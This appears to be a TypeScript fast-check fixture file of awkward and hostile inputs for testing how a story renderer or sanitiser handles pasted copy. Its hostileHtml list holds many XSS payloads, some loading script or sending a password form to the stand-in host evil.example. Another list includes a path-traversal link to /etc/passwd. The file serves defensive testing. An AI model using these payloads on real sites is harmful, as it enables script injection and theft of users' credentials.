import fc from 'fast-check';

/*
 * Pieces of copy that somebody who means harm, or an export that broke, puts into a story. Each is a line or less.
 */

/** HTML that would run, load or dress up. */
export const hostileHtml: readonly string[] = [
  '<script>steal()</script>',
  '<scr<script>ipt>steal()</scr</script>ipt>',
  '<script src=//evil.example/x.js>',
  '</script>',
  '<img src=x onerror=steal()>',
  '<img src="https://evil.example/x.png" srcset="//evil.example/y.png 2x" onload=steal()>',
  '<img src=" javascript:steal()" alt="a">',
  '<a href="java\tscript:steal()">x</a>',
  '<a href="&#1;javascript:steal()">x</a>',
  '<a href="data:text/html,<script>steal()</script>">x</a>',
  '<a href="vbscript:x" onclick="steal()">x</a>',
  '<svg onload=steal()><use href="data:image/svg+xml,x#x"/></svg>',
  '<svg><style><img src=x onerror=steal()></style></svg>',
  '<svg><foreignObject><iframe src=javascript:steal()></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>steal()</script>">',
  '<iframe src="https://www.youtube.com/embed/x" title="A film"></iframe>',
  '<iframe src="https://evil.example/?<b>&amp;"></iframe>',
  '<object data="javascript:steal()">',
  '<video src=x onerror=steal() poster=//evil.example/p.png><source src=y></video>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:steal()">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="background:url(//evil.example/x)">',
  '<form action=//evil.example/><input name=password autofocus onfocus=steal()>',
  '<button formaction=javascript:steal()>x</button>',
  '<details open ontoggle=steal()><summary>s</summary>',
  '<template><b></template>',
  '<noscript><p title="</noscript><img src=x onerror=steal()>">',
  '<!--><img src=x onerror=steal()>-->',
  '<!-- ',
  '-->',
  '<![CDATA[ <b> ]]>',
  '<?php steal() ?>',
  '<!DOCTYPE html>',
  '<textarea><img src=x onerror=steal()>',
  '<title><plaintext>',
  '<select><option><b onclick=x>',
  '<b id=__proto__ class=constructor>',
  '<a name=content:articles/x.md id=">">',
  '<q cite="javascript:steal()">x</q>',
  '<table background="javascript:steal()"><tr><td onclick=x>',
  '<input type=checkbox disabled checked>',
  '<a href="content:articles/secret.md">x</a>',
  '[x](javascript:steal())',
  '[x](JaVaScRiPt&colon;steal())',
  '![x](data:image/svg+xml,<svg/onload=steal()>)',
  '![x](//evil.example/x.png)',
  '<javascript:steal()>',
  '[x]: javascript:steal()',
];

/** HTML that may stand in copy, and tags that nobody closed. */
export const plainHtml: readonly string[] = [
  ...['<b>', '</b>', '<i>', '</i>', '<p>', '</p>', '<div>', '</div>', '<br>', '<br/>', '<hr>', '<span lang=fr dir=rtl>'],
  ...['<ul><li>', '</li>', '</ul>', '<dl><dt>', '<dd>', '<table><tr><th scope=col>', '<td colspan=3>', '</table>'],
  ...['<caption>', '<tbody>', '</tr>', '<figure>', '<figcaption>', '</figure>', '<blockquote cite="/a/">', '</blockquote>'],
  ...['<pre>', '<code class=language-js>', '</code></pre>', '<details>', '<summary>', '</details>', '<a href="/section/world/">'],
  ...['</a>', '<h2 id=a>', '</h2>', '<ruby>東<rt>とう', '</ruby>', '<font color=red>', '<center>', '<aside class=pullquote>', '</aside>'],
  ...['<T>', '<your name>', 'a < b', 'Q&A', '&amp;', '&lt;b&gt;', '&#x202e;', '&#0;', '&nbsp;', '&copy;', '&bogus;', '&#xD800;'],
];

/** Characters that hide, turn or break text. */
export const strangeSigns: readonly string[] = [
  '\u202e',
  '\u202a',
  '\u2066',
  '\u2069',
  '\u200f',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u00ad',
  '\u0000',
  '\u0001',
  '\u0003',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u0093',
  '\u2028',
  '\u2029',
  '\u00a0',
  '\u3000',
  '\ufffd',
  '\ufffe',
  '\uffff',
  '\u{1f469}\u200d\u{1f680}',
  '\u0301\u0301\u0301',
  '\u{e0041}',
  '\u{10ffff}',
];

/** Words of several scripts and both directions. */
export const words: readonly string[] = [
  ...['The ferry', 'is late again', 'said', 'Ada Stone', 'São Paulo', 'Straße', 'Łódź', 'naïve', 'Ελλάδα', 'Москва', 'мэр сказал'],
  ...['بيروت', 'قال رئيس البلدية', 'ירושלים', 'אמר', '東京', '市長は', '서울', 'दिल्ली', 'กรุงเทพ', 'İstanbul', 'ǆ', 'ﬁne', '𝒜', '😀'],
  ...['42', '3.5%', '$1,000', '“said”', '‘so’', '"straight"', "it's", '--', '---', '...', '(', ')', ',', '.', ':', ';', '!', '?', '—', '–'],
];

/** Marks of Markdown and of template languages. */
export const markdownSigns: readonly string[] = [
  ...['*', '**', '_', '__', '~', '~~', '`', '``', '\\', '[', ']', '![', '](', ')', '^', '|', '#', '>', '+', '-', '=', '{', '}', '<', '&'],
  ...['[a](b.md)', '[a][b]', '[b]: /c "d"', '![Two boats](boats.jpg "Boats. | Ada Birch")', '![](/media/x.png)', '[^1]', '[^1]: A note.'],
  ...['[^__proto__]', '[^__proto__]: x', '[constructor]', '[constructor]: /x', 'https://x.example/a_b?c=d&e', 'www.x.example', 'a@b.example'],
  ...['{{< figure src="a.jpg" caption="b" >}}', '{% highlight js %}', '{% endhighlight %}', '{% raw %}', '{{ x }}', '{: .x}', '{#id}', '{{< pullquote >}}'],
  ...['{% pullquote %}', '{" words "}', '{% include x %}', '{{< /pullquote >}}', '[toc]', '<!--more-->', '[../../../etc/passwd](../../../etc/passwd)'],
];

/** Lines that begin a block. */
export const blockStarts: readonly string[] = [
  ...['# ', '## ', '###### ', '- ', '* ', '• ', '1. ', '1) ', '> ', '>> ', '    ', '\t', '- [ ] ', '- [x] ', '> [!QUOTE]\n> ', '| ', '+ '],
  ...['```\n', '~~~js\n', '---\n', '***\n', '===\n', '+++\n', '| a | b |\n|---|:-:|\n| ', ': ', '<div>\n\n', '[^1]: ', '  \n', '\\\n', '— '],
];

/** Any characters of Unicode, halves of pairs left out, which no bytes can say. */
export const anySigns = fc
  .array(fc.oneof(fc.nat(0x7f), fc.nat(0x2fff), fc.nat(0x10ffff)), { maxLength: 4 })
  .map((codes) => codes.map((code) => String.fromCodePoint(code >= 0xd800 && code < 0xe000 ? 0xfffd : code)).join(''));
